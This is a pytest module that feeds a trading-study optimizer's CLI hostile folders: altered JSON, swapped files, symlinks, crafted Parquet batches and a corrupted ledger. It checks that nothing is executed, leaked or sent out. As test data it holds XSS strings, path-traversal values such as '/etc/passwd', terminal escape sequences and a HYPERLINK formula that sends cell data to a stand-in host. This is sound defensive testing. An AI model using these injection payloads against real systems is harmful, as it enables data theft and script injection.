"""Folders from a stranger: every value replaced, every file swapped. They are data, never code.

By default a sample of the product, the same each time; ``BARSWEEP_FUZZ=all`` takes all of it, and
``BARSWEEP_FUZZ=3`` another sample.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import json
import os
import random
import shutil
import socket
import sqlite3
import sys
import tracemalloc
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import tomli_w

from optimizer.analytics.address import parse_url
from optimizer.analytics.spill import Spill
from optimizer.analytics.tables import BarRows
from optimizer.errors import BarsweepError
from optimizer.review.notebook import study_html
from optimizer.search.run import run_study
from optimizer.store import batch_files, ledger
from optimizer.store.batch_files import (
    HOLDOUT_KEY,
    MAXIMA_KEY,
    MOMENTS_KEY,
    TRIALS_KEY,
    parquet_file,
)
from optimizer.store.batches import read_batch, read_results
from optimizer.store.export import export_sets
from optimizer.store.folder import StudyFolder
from optimizer.store.ledger_entries import Search
from optimizer.store.validated import MOST_BYTES, read_text
from tests.support.command import barsweep
from tests.support.studies import mapping, random_bars, small_study, write_bars

ALL = os.environ.get("BARSWEEP_FUZZ") == "all"
SEED = 0 if ALL else int(os.environ.get("BARSWEEP_FUZZ", 7))
CANARY = "canary-was-run"
MARKUP = "<img src=x onerror=alert(1)>"
TOKEN = "@@hostile@@"
VALUES = {
    "null": "null",
    "empty": '""',
    "negative": "-1",
    "huge": "1e308",
    "infinite": "1e999",
    "nan": "NaN",
    "list": "[]",
    "table": "{}",
    "list of tables": '[{"name": "x"}]',
    "flag": "true",
    "fraction": "0.5",
    "long": json.dumps("A" * 10_000_000),
    "control": json.dumps("\x1b]0;title\x07\r\x1b[2J\u202eevil\n"),
    "long name": json.dumps("A" * 1000),
    "above": '"../../x"',
    "absolute": '"/etc/passwd"',
    "url": '"http://stranger.example/x"',
    "database": '"postgresql://u@stranger.example/db"',
    "markup": json.dumps(MARKUP),
    "deep": "[" * 50_000 + "]" * 50_000,
    "digits": "9" * 5_000,
    "20 digits": "9" * 20,
    "400 digits": "9" * 400,
    "4300 digits": "-" + "9" * 4_300,
    "surrogate": '"a\\ud800"',
    "later surrogate": '{"x": ["\\uDfff"]}',
    "deleted": json.dumps("a\x7fb\x80\x9b2J\x85"),
    "subnormal": "1e-320",
    "tiny": "-5e-324",
}
"""What each key is replaced by, as JSON has it."""

COMPILED = {"allow_short", "first_bar", "stop_loss", "take_profit", "trailing_stop"}
"""Keys that choose what is compiled: a value that is fit for them takes seconds, and is no error."""


class Home(NamedTuple):
    """A folder with a study, a flow and an export, and what must stay as it is."""

    path: Path
    safe: Path
    fill: str


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    path = tmp_path_factory.mktemp("hostile") / "a" / "home"
    data = write_bars(path / "data" / "bars.parquet", random_bars(150))
    study = small_study(data, search={"trials": 4, "batch": 2}, validation={"blocks": 4})
    run_study(study, out=path / "out", workers=1)
    export_sets(path / "out", top=2)
    shutil.copytree(path / "out", path / "other")
    grid = mapping("bars.parquet", search={"sampler": "grid"})
    del grid["search"]["trials"]
    grid["strategy"] = {"name": "momentum", "lookback": 10}
    grid["risk"] = {"volatility_lookback": 10, "correlation_lookback": 20}
    (path / "data" / "flow.toml").write_text(tomli_w.dumps(grid))
    done = barsweep("flow", "data/flow.toml", "--out", "flow", folder=path)
    assert done.returncode == 0, done.stderr
    fill = done.stdout.split("barsweep trace flow ")[1].split()[0]
    (path / "sentinel" / "results").mkdir(parents=True)
    for name in ("secret", "results/batch-000000.parquet", "results/x.parquet.part", "study.json"):
        (path / "sentinel" / name).write_text("keep")
    code = f"import pathlib; pathlib.Path({str(path / CANARY)!r}).touch()\n"
    (path / "canary.py").write_text(code)
    safe = path.parent / "safe"
    shutil.copytree(path, safe)
    return Home(path, safe, fill)


@pytest.fixture(autouse=True)
def connections(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every connection and look-up of a name that is tried; none of them is made."""
    tried: list[str] = []

    def refuse(*arguments: Any, **_: Any) -> Any:
        tried.append(repr(arguments[1:]))
        raise ConnectionRefusedError("no test of hostile folders connects")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setenv("PGPASSWORD", "s3cret-of-the-user")
    return tried


def commands(home: Home) -> dict[str, list[Any]]:
    return {
        "show": ["show", "out"],
        "show set": ["show", "out", 0],
        "list": ["list", "."],
        "report": ["report", "out"],
        "resume": ["resume", "out", "--workers", 1],
        "compare": ["compare", "out", "other"],
        "export": ["export", "out"],
        "plot": ["plot", "out", "--heatmap", "lookback", "kelly_fraction"],
        "replay": ["replay", "out/best.json"],
        "replay second": ["replay", "out/best.json", "--set", 2],
        "trace": ["trace", "flow", home.fill],
        "rejects": ["trace", "flow", "--rejects"],
    }


OF_STUDY = ("show", "show set", "list", "report", "resume", "compare", "export", "plot")


def tree(path: Path, skip: Sequence[str] = ()) -> dict[str, str]:
    """Content of every file below a folder, and where links lead."""
    found = {}
    for one in sorted(path.rglob("*")):
        name = str(one.relative_to(path))
        if name.split("/")[0] in skip:
            continue
        if one.is_symlink():
            found[name] = os.readlink(one)
        elif one.is_file():
            found[name] = hashlib.sha256(one.read_bytes()).hexdigest()
    return found


class Fuzz:
    """Runs commands on a folder that was changed, and collects what they must not do."""

    def __init__(self, home: Home, connections: list[str]) -> None:
        self.home = home
        self._connections = connections
        self._commands = commands(home)
        self._outside = tree(home.safe, ("out", "flow"))
        self.problems: list[str] = []

    def add(self, name: str, arguments: list[Any]) -> None:
        """A command that ``run`` knows by name."""
        self._commands[name] = arguments

    def restore(self, folder: str) -> None:
        shutil.rmtree(self.home.path / folder)
        shutil.copytree(self.home.safe / folder, self.home.path / folder)

    def run(self, case: str, names: Sequence[str]) -> None:
        for name in names:
            self._run(f"{case}: {name}", self._commands[name])
        if tree(self.home.path, ("out", "flow")) != self._outside:
            self.problems.append(f"{case}: a file outside was touched")
            for folder in self.home.safe.iterdir():
                if folder.is_dir():
                    shutil.rmtree(self.home.path / folder.name)
                    shutil.copytree(folder, self.home.path / folder.name)
            (self.home.path / CANARY).unlink(missing_ok=True)
        if self._connections:
            self.problems.append(f"{case}: connected: {self._connections}")
            self._connections.clear()

    def _run(self, case: str, arguments: list[Any]) -> None:
        try:
            done = barsweep(*arguments, folder=self.home.path)
        except Exception as error:
            trace = error.__traceback__
            while trace is not None and trace.tb_next is not None:
                trace = trace.tb_next
            where = (
                "" if trace is None else f"{trace.tb_frame.f_code.co_filename}:{trace.tb_lineno}"
            )
            self.problems.append(f"{case}: {type(error).__name__}: {str(error)[:200]} at {where}")
            return
        text = done.stdout + done.stderr
        if done.returncode not in (0, 1, 2) or "Traceback" in text:
            self.problems.append(f"{case}: {done.returncode}: {text[-300:]}")
        raw = {c for c in text if not c.isprintable() and c != "\n"}
        if raw:
            self.problems.append(f"{case}: raw characters {raw}")
        if len(done.stderr) > 20_000:
            self.problems.append(f"{case}: {len(done.stderr):,} characters of errors")
        if "s3cret-of-the-user" in text:
            self.problems.append(f"{case}: the password is shown")
        report = self.home.path / "out" / "report.html"
        if report.is_file() and MARKUP in report.read_text():
            self.problems.append(f"{case}: markup in the report")

    def check(self) -> None:
        assert not self.problems, "\n".join(self.problems[:40])


@pytest.fixture
def fuzz(home: Home, connections: list[str]) -> Iterator[Fuzz]:
    one = Fuzz(home, connections)
    yield one
    for folder in ("out", "flow"):
        one.restore(folder)


def places(content: Any, above: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The place of every value; of a list the first and the last."""
    if above:
        yield above
    pairs: list[tuple[Any, Any]] = []
    if isinstance(content, dict):
        pairs = list(content.items())
    elif isinstance(content, list):
        pairs = list(enumerate(content))
        pairs = pairs if len(pairs) < 3 else [pairs[0], pairs[-1]]
    for key, value in pairs:
        yield from places(value, (*above, key))


def replaced(content: Any, place: tuple[Any, ...], value: str) -> str:
    """The JSON text with one value replaced."""
    copy = json.loads(json.dumps(content))
    holder = copy
    for key in place[:-1]:
        holder = holder[key]
    holder[place[-1]] = TOKEN
    return json.dumps(copy).replace(f'"{TOKEN}"', value)


def sampled(cases: list[Any], count: int) -> list[Any]:
    return cases if ALL else random.Random(SEED).sample(cases, min(count, len(cases)))


JSON_FILES = {
    "out/study.json": (OF_STUDY, 120, 2),
    "out/selection.json": (("show", "show set", "list", "report", "resume", "compare"), 50, 2),
    "out/best.json": (("replay", "replay second"), 120, 1),
    "flow/flow.json": (("trace", "rejects"), 1000, 1),
}
"""Of each file the commands that read it, the sampled cases, and the commands of each."""


@pytest.mark.parametrize("name", JSON_FILES)
def test_every_key_replaced(name: str, fuzz: Fuzz) -> None:
    folder = name.split("/")[0]
    file = fuzz.home.path / name
    content = json.loads(file.read_text())
    names, count, n_commands = JSON_FILES[name]
    cases = [
        (place, kind)
        for place in places(content)
        for kind in VALUES
        if not (place[-1] in COMPILED and kind in ("flag", "fraction"))
    ]
    turn = random.Random(SEED + 1)
    for place, kind in sampled(cases, count):
        file.write_text(replaced(content, place, VALUES[kind]))
        chosen = names if ALL else turn.sample(names, n_commands)
        fuzz.run(f"{name} {'.'.join(map(str, place))} = {kind}", chosen)
        if folder == "out" and {"resume", "report", "export", "plot"} & set(chosen):
            fuzz.restore(folder)
    fuzz.check()


def test_a_path_of_code_is_added(fuzz: Fuzz) -> None:
    """A strategy's file is named where there was none; reading the study does not run it."""
    file = fuzz.home.path / "out" / "study.json"
    content = json.loads(file.read_text())
    table = content["study"]["strategy"][0]
    for added in (
        {"path": "canary.py"},
        {"path": str(fuzz.home.path / "canary.py"), "name": "evil"},
        {"path": "canary.py", "declared": None},
        {"path": "canary.py", "declared": {}, "source_hash": "0" * 64},
    ):
        content["study"]["strategy"] = [{**table, **added}]
        for tables in (content["study"]["strategy"], content["study"]["strategy"][0]):
            content["study"]["strategy"] = tables
            file.write_text(json.dumps(content))
            fuzz.run(f"{added}", OF_STUDY if ALL else ("show", "list", "resume", "plot"))
    fuzz.check()


# --- Files that are swapped -------------------------------------------------------------------


def swaps(home: Home) -> dict[str, Callable[[Path], object]]:
    """What a file becomes."""
    safe, sentinel = home.safe, home.path / "sentinel"

    def copied(name: str) -> Callable[[Path], object]:
        return lambda path: path.write_bytes((safe / name).read_bytes())

    def link(to: Path) -> Callable[[Path], object]:
        def act(path: Path) -> None:
            path.unlink()
            path.symlink_to(to)

        return act

    def folder(path: Path) -> None:
        path.unlink()
        path.mkdir()

    def pipe(path: Path) -> None:
        path.unlink()
        os.mkfifo(path)

    return {
        "a manifest": copied("out/study.json"),
        "a batch": copied("out/results/batch-000001.parquet"),
        "moments": copied("out/moments/batch-000001.npy"),
        "a holdout": copied("out/holdout/batch-000001.parquet"),
        "a selection": copied("out/selection.json"),
        "a journal": copied("out/optuna.journal"),
        "bars": copied("data/bars.parquet"),
        "an export": copied("out/best.json"),
        "a flow": copied("flow/flow.json"),
        "a database": copied("flow/analytics.db"),
        "code": copied("canary.py"),
        "half": lambda path: path.write_bytes(path.read_bytes()[: path.stat().st_size // 2]),
        "nothing": lambda path: path.write_bytes(b""),
        "zeros": lambda path: path.write_bytes(bytes(1000)),
        "a link": link(sentinel / "secret"),
        "a broken link": link(sentinel / "none"),
        "a folder": folder,
        **({"a pipe": pipe} if hasattr(os, "mkfifo") else {}),
        "missing": lambda path: path.unlink(),
    }


def test_every_file_swapped(fuzz: Fuzz) -> None:
    files = {
        "out": [*OF_STUDY, "replay"],
        "flow": ["trace", "rejects"],
    }
    every = swaps(fuzz.home)
    cases = [
        (folder, str(path.relative_to(fuzz.home.path)), kind)
        for folder in files
        for path in sorted((fuzz.home.path / folder).rglob("*"))
        if path.is_file()
        for kind in every
    ]
    turn = random.Random(SEED + 2)
    for folder, name, kind in sampled(cases, 70):
        fuzz.restore(folder)
        every[kind](fuzz.home.path / name)
        chosen = files[folder] if ALL else turn.sample(files[folder], 2)
        fuzz.run(f"{name} is {kind}", chosen)
    fuzz.check()


@pytest.mark.skipif(sys.platform == "win32", reason="links of POSIX")
@pytest.mark.parametrize(
    "name",
    ["results", "moments", "holdout", "unsealed.json", "folds", "shared-123-0123abcd",
     "study.json.part", "optuna.journal",
     "results/batch-000000.parquet", "results/x.parquet.part", "selection.json",
     "shared-123-0123abcd/link"],
)  # fmt: skip
def test_resume_follows_no_link(name: str, fuzz: Fuzz) -> None:
    """Neither of a study that was stopped nor with ``--overwrite`` does it write or remove outside."""
    out = fuzz.home.path / "out"
    manifest = json.loads((out / "study.json").read_text())
    for command in ("resume", "run"):
        fuzz.restore("out")
        (out / "study.json").write_text(json.dumps({**manifest, "complete": False}))
        link = out / name
        link.parent.mkdir(exist_ok=True)
        target = fuzz.home.path / "sentinel"
        target = target / "results" if link.suffix == "" else target / "secret"
        if link.is_dir():
            shutil.rmtree(link)
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        done = (
            barsweep("resume", "out", "--workers", 1, folder=fuzz.home.path)
            if command == "resume"
            else barsweep("run", "data/flow.toml", "--out", "out", "--overwrite", "--workers", 1,
                          folder=fuzz.home.path)
        )  # fmt: skip
        assert done.returncode == 2, done.stdout
        assert "symbolic link" in done.stderr
        assert link.is_symlink()
        fuzz.run(name, ())
    fuzz.check()


@pytest.mark.parametrize(
    "name",
    ["shared-abc-def", "shared-1-2-3", "shared--1-0123abcd", "shared-99999999999999-0123abcd"],
)
def test_what_is_only_named_like_shared_arrays_is_left_alone(name: str, fuzz: Fuzz) -> None:
    out = fuzz.home.path / "out"
    manifest = json.loads((out / "study.json").read_text())
    (out / "study.json").write_text(json.dumps({**manifest, "complete": False}))
    (out / name).mkdir()
    (out / name / "mine").write_text("keep")
    done = barsweep("resume", "out", "--workers", 1, folder=fuzz.home.path)
    assert done.returncode == 0, done.stderr
    assert (out / name / "mine").read_text() == "keep"


def test_nothing_is_unpickled_from_a_folder(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither by a command nor by the dashboard, which reads Optuna's journal: it is JSON lines."""
    import pickle

    from optimizer.views.dashboard import dashboard_server

    def refuse(*_: Any, **__: Any) -> Any:
        raise AssertionError("a pickle of a folder is read")

    out = fuzz.home.path / "out"
    manifest = json.loads((out / "study.json").read_text())
    (out / "study.json").write_text(json.dumps({**manifest, "complete": False}))
    with monkeypatch.context() as patched:
        for name in ("load", "loads", "Unpickler"):
            patched.setattr(pickle, name, refuse)
        for name in ("show", "list", "resume", "compare"):
            done = barsweep(*commands(fuzz.home)[name], folder=fuzz.home.path)
            assert done.returncode == 0, done.stderr
        with dashboard_server(out, 0) as server:
            application = server.get_app()
            assert application is not None
            environ = {"REQUEST_METHOD": "GET", "PATH_INFO": "/api/studies", "QUERY_STRING": "",
                       "HTTP_HOST": f"127.0.0.1:{server.server_port}",
                       "SERVER_PORT": str(server.server_port), "SERVER_NAME": "127.0.0.1",
                       "SERVER_PROTOCOL": "HTTP/1.1", "wsgi.url_scheme": "http"}  # fmt: skip
            said: list[str] = []
            answer = b"".join(application(environ, lambda status, *_: said.append(status)))  # type: ignore[arg-type]
            assert said[0].startswith("200")
            assert b"small" in answer


# --- Batches with a right checksum and wrong content ---------------------------------------------

CLOSING = "</script><script>alert(1)</script>\x1b[2J\u202e"

CRAFTED: dict[str, Callable[[Any], Any]] = {
    "names": lambda frame: frame.assign(strategy=CLOSING, classifier=MARKUP),
    "no names": lambda frame: frame.assign(strategy="", classifier="x" * 10_000),
    "numbers of sets": lambda frame: frame.assign(set=2**62, trial=-5),
    "the same set": lambda frame: frame.assign(set=0),
    "negative sets": lambda frame: frame.assign(set=-frame["set"] - 1),
    "infinite": lambda frame: frame.assign(sharpe=float("inf"), score=float("-inf"), cagr=1e308),
    "undefined": lambda frame: frame.assign(sharpe=float("nan"), score=float("nan")),
    "large": lambda frame: frame.assign(skewness=1e200, kurtosis=-1e300, sharpe=1e250, score=1.0),
    "parameters": lambda frame: frame.assign(kelly_fraction=1e308, momentum_lookback=-1e300),
    "empty": lambda frame: frame.iloc[:0],
    "feasible": lambda frame: frame.assign(feasible=True, score=1.0, n_trades=2**62),
}

TRIALS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "reason": lambda one: {**one, "user_attrs": {**one["user_attrs"], "reason": CLOSING}},
    "number": lambda one: {**one, "number": 2**53},
    "values": lambda one: {**one, "values": [1e299]},
    "no values": lambda one: {**one, "values": []},
    "many": lambda one: {**one, "values": [0.0] * 5},
    "sets": lambda one: {**one, "user_attrs": {"n_sets": 2**53}},
    "winner": lambda one: {**one, "user_attrs": {"n_sets": 1, "winner": {CLOSING: 1.0}}},
    "params": lambda one: {**one, "params": {MARKUP: 1.0}},
    "text": lambda one: {**one, "values": "x"},
    "surrogate": lambda one: {**one, "user_attrs": {**one["user_attrs"], "reason": "a\ud800"}},
    "digits": lambda one: {**one, "number": int("9" * 4_000)},
    "list": lambda one: [one],
}


@pytest.mark.parametrize("case", [*CRAFTED, *(f"trials: {one}" for one in TRIALS)])
def test_a_crafted_batch(case: str, fuzz: Fuzz) -> None:
    path = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
    table = pq.read_table(path)
    metadata = dict(table.schema.metadata)
    if case in CRAFTED:
        frame = CRAFTED[case](table.to_pandas())
        for name in ("strategy", "classifier"):
            frame[name] = frame[name].astype("category")
        crafted = pa.Table.from_pandas(frame, preserve_index=False)
        schema = [crafted.schema.field(f.name) if f.name in ("strategy", "classifier") else f
                  for f in table.schema]  # fmt: skip
        table = crafted.cast(pa.schema(schema))
    else:
        change = TRIALS[case.removeprefix("trials: ")]
        trials = [change(one) for one in json.loads(metadata[TRIALS_KEY])]
        metadata[TRIALS_KEY] = json.dumps(trials).encode()
    kept = {key: metadata[key] for key in BATCH_KEYS}
    path.write_bytes(parquet_file(table.replace_schema_metadata(kept)))
    fuzz.run(case, OF_STUDY)
    for page in ("report.html", "heatmap-lookback-kelly_fraction.html"):
        if (fuzz.home.path / "out" / page).is_file():
            assert "<script>alert(1)" not in (fuzz.home.path / "out" / page).read_text()
    fuzz.check()


BATCH_KEYS = (TRIALS_KEY, MOMENTS_KEY, HOLDOUT_KEY, MAXIMA_KEY)

FORMULA = '=HYPERLINK("http://stranger.example/"&A1,"x")'


def rewritten(path: Path, frame: Any) -> None:
    """A batch of other rows, with a right checksum."""
    table = pq.read_table(path)
    metadata = {key: table.schema.metadata[key] for key in BATCH_KEYS}
    crafted = pa.Table.from_pandas(frame, preserve_index=False)
    path.write_bytes(parquet_file(crafted.replace_schema_metadata(metadata)))


@pytest.mark.parametrize("column", ["strategy", "classifier", "parameter"])
def test_a_formula_reaches_no_table(column: str, fuzz: Fuzz) -> None:
    """A spreadsheet would compute it: names are those of the study."""
    for path in (fuzz.home.path / "out" / "results").glob("*.parquet"):
        frame = pq.read_table(path).to_pandas()
        if column == "parameter":
            frame = frame.rename(columns={"kelly_fraction": FORMULA})
        else:
            frame[column] = FORMULA
        for name in ("strategy", "classifier"):
            frame[name] = frame[name].astype("category")
        rewritten(path, frame)
    for arguments in (("export", "out", "--format", "csv"), ("show", "out"), ("show", "out", 0)):
        done = barsweep(*arguments, folder=fuzz.home.path)
        assert done.returncode == 2 and done.stderr.count("\n") == 1
        assert "HYPERLINK" in done.stderr
    assert not (fuzz.home.path / "out" / "best.csv").exists()
    # It is damage like any other: what is not the study's is computed again.
    done = barsweep("resume", "out", "--workers", 1, folder=fuzz.home.path)
    assert done.returncode == 0, done.stderr
    done = barsweep("export", "out", "--format", "csv", folder=fuzz.home.path)
    assert done.returncode == 0 and "HYPERLINK" not in (fuzz.home.path / "out/best.csv").read_text()


# --- Sizes --------------------------------------------------------------------------------------


def test_a_study_of_any_number_of_trials_takes_no_memory(fuzz: Fuzz) -> None:
    folder = StudyFolder(fuzz.home.path / "out")
    tracemalloc.start()
    try:
        found = folder.damage(10**9)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found == (folder.batch_path(2), "missing")
    assert most < 50e6


def test_more_rows_than_sets_are_not_read(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows that are all the same take no room in a file, and any in memory."""
    path = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
    table = pq.read_table(path)
    rewritten(path, pa.concat_tables([table.slice(0, 1)] * 200_000).to_pandas())
    assert path.stat().st_size < 1_000_000
    with monkeypatch.context() as patched:
        patched.setattr(pq, "read_table", lambda *_, **__: pytest.fail("read"))
        with pytest.raises(ValueError, match=r"has 200,000 rows; its trials have \d+ parameter"):
            read_results(path)
    fuzz.run("rows", OF_STUDY)
    fuzz.check()


@pytest.mark.skipif(sys.platform == "win32", reason="sparse files")
@pytest.mark.parametrize(
    "name",
    ["results/batch-000001.parquet", "moments/batch-000001.npy", "holdout/batch-000001.parquet"],
)
def test_a_file_of_any_size_takes_no_memory(name: str, fuzz: Fuzz) -> None:
    path = fuzz.home.path / "out" / name
    before = path.read_bytes()
    batch = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
    with path.open("wb") as file:
        file.truncate(2_000_000_000)
        if path == batch:  # its end is that of a batch
            file.seek(0, os.SEEK_END)
            file.write(before[-8 - int.from_bytes(before[-8:-4], "little") :])
    tracemalloc.start()
    try:
        with pytest.raises(ValueError, match="damaged"):
            read_batch(batch)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 50e6


def test_metadata_of_any_size_are_not_read(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    path = fuzz.home.path / "out" / "results" / "batch-000001.parquet"
    monkeypatch.setattr(batch_files, "MOST_METADATA", 1_000)
    for read in (read_batch, read_results):
        with pytest.raises(ValueError, match="its metadata have 0 MB, more than any batch has"):
            read(path)


def test_a_json_file_of_any_size_is_not_read(tmp_path: Path) -> None:
    file = tmp_path / "x.json"
    with file.open("wb") as opened:
        opened.write(b"1")
        opened.truncate(MOST_BYTES + 1)
    with pytest.raises(ValueError, match="it has 64 MB, more than 64"):
        read_text(file)


def test_only_a_run_is_told_to_lower_its_batch(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: Any, **__: Any) -> Any:
        raise MemoryError

    monkeypatch.setattr("optimizer.study_file.load.load_study", full)
    monkeypatch.setattr("optimizer.store.query.find_sets", full)
    done = barsweep("run", "data/flow.toml", folder=fuzz.home.path)
    assert done.returncode == 2 and "lower [search] batch" in done.stderr
    done = barsweep("show", "out", "--where", "n_trades >= 0", folder=fuzz.home.path)
    assert done.returncode == 2 and "out of memory" in done.stderr
    assert "batch" not in done.stderr


# --- Other readers ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["out/study.json", "out/selection.json"])
def test_a_notebook_shows_no_markup(name: str, fuzz: Fuzz) -> None:
    """``_repr_html_`` gives a page or raises one line, whatever a value is replaced by."""
    file = fuzz.home.path / name
    content = json.loads(file.read_text())
    folder = StudyFolder(file.parent)
    cases = [(place, kind) for place in places(content) for kind in VALUES]
    for place, kind in sampled(cases, 60):
        file.write_text(replaced(content, place, VALUES[kind]))
        page = ""
        with contextlib.suppress(BarsweepError):
            page = study_html(folder)
        assert MARKUP not in page, (place, kind)
        page.encode()


def test_a_spill_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every value of the header and of a bar replaced; other rows go into the folder's own database."""
    flow = fuzz.home.path / "flow"
    address = parse_url(f"sqlite:///{flow / 'analytics.db'}")
    spill = Spill(flow / "spill.jsonl", address)
    bar = ["b", 7, "t", "AAA", 1.0, 1.0, 1.0, 1.0, 2.0]
    fill = ["f", None, "p", 7, "AAA", "market", 1.0, 1.0, 0.0, 1.0, 1.0, "b", *4 * [None]]
    rows: dict[str, Any] = {"bars": [tuple(bar)], "fills": [tuple(fill)]}
    spill.write([BarRows(7, rows, 2)])
    spill.close()
    lines = spill.path.read_text().splitlines()
    done = barsweep("analytics", "import", "flow/spill.jsonl", folder=fuzz.home.path)
    assert done.stdout == "imported 2 rows\n", done
    cases = [
        (number, place, kind)
        for number, line in enumerate(lines)
        for place in places(json.loads(line))
        for kind in VALUES
    ]
    fuzz.add("import", ["analytics", "import", "flow/spill.jsonl"])
    for number, place, kind in sampled(cases, 60):
        fuzz.restore("flow")
        changed = [*lines]
        changed[number] = replaced(json.loads(lines[number]), place, VALUES[kind])
        spill.path.write_text("".join(f"{line}\n" for line in changed))
        fuzz.run(f"spill {number} {place} = {kind}", ("import", "rejects"))
    for text in ("", "\n", "{}\n{}\n", lines[0], f"{lines[0]}\n[]\n", f"{lines[0]}\n\ufffd\n"):
        spill.path.write_text(text)
        fuzz.run(f"spill {text[:20]}", ("import",))
    spill.path.write_bytes(lines[0].encode() + b'\n{"bar": 1, "rows": {"bars": [["\xff"]]}}\n')
    fuzz.run("spill of bytes", ("import",))
    fuzz.check()


def test_a_ledger_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) -> None:
    """A copy of another user's, or a file that is none."""
    place = fuzz.home.path.parent / "ledger.db"
    monkeypatch.setenv("BARSWEEP_LEDGER", str(place))
    fuzz.add("ledger", ["ledger"])
    strange = ["", MARKUP, CLOSING, "\x7f\x9b2J", "x" * 100_000, "=1+1"]
    what = Search(
        "0" * 64, "1" * 64, "study", "bars.parquet", ("AAA",), 86_400 * 10**9, 0, 10**18, 3
    )
    for kind in (*strange, None, -1, 2**63 - 1, 1e308, float("inf"), b"\xff\xfe"):
        place.unlink(missing_ok=True)
        ledger.note(what, np.ones(4, np.float32))
        for column in ("number", "time", "content", "maxima", "hash"):
            with contextlib.closing(sqlite3.connect(place)) as database:
                with contextlib.suppress(sqlite3.Error):
                    database.execute(f"UPDATE entries SET {column} = ?", (kind,))
                database.commit()
            fuzz.run(f"ledger {column} = {str(kind)[:20]!r}", ("ledger", "show"))
    for key in (
        "study_hash",
        "data_hash",
        "study",
        "data",
        "symbols",
        "bar_ns",
        "start_ns",
        "n_sets",
    ):
        for value in (*strange[:4], None, -1, 2**80, 1e308, [], ["", MARKUP], {"a": 1}):
            place.unlink(missing_ok=True)
            ledger.note(what, np.ones(4, np.float32))
            text = json.dumps({**dataclasses.asdict(what), key: value})
            with contextlib.closing(sqlite3.connect(place)) as database:
                database.execute("UPDATE entries SET content = ?", (text,))
                database.commit()
            fuzz.run(f"ledger {key} = {str(value)[:20]!r}", ("ledger", "show"))
    for content in (b"", b"x" * 5_000, (fuzz.home.safe / "flow" / "analytics.db").read_bytes()):
        place.write_bytes(content)
        fuzz.run(f"ledger of {len(content)} bytes", ("ledger", "show"))
    fuzz.check()


@pytest.mark.parametrize("content", ["a batch", "an export", "texts", "empty"])
def test_a_walk_forward_of_other_content(content: str, fuzz: Fuzz) -> None:
    path = fuzz.home.path / "out" / "walk_forward.parquet"
    if content == "texts":
        table = pa.table({"timestamp": ["x", MARKUP], "equity": [CLOSING, "1"]})
        pq.write_table(table, path)
    elif content == "empty":
        table = pa.table(
            {"timestamp": pa.array([], pa.timestamp("ns")), "equity": pa.array([], pa.float64())}
        )
        pq.write_table(table, path)
    else:
        path.write_bytes(b"")
        swaps(fuzz.home)[content](path)
    fuzz.run(content, ("report", "show", "list"))
    fuzz.check()
